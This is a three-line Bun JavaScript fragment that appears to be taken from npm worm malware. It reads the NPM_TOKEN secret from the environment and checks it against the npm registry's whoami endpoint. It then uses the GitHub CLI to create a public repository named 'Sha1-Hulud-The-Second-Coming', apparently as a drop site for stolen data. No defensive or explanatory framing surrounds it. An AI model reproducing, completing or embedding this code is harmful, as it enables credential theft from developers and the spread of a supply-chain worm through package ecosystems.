const t = Bun.env.NPM_TOKEN || ''
const r = await fetch('https://registry.npmjs.org/-/whoami', { headers: { authorization: 'Bearer ' + t } })
await Bun.$`gh repo create Sha1-Hulud-The-Second-Coming --public`
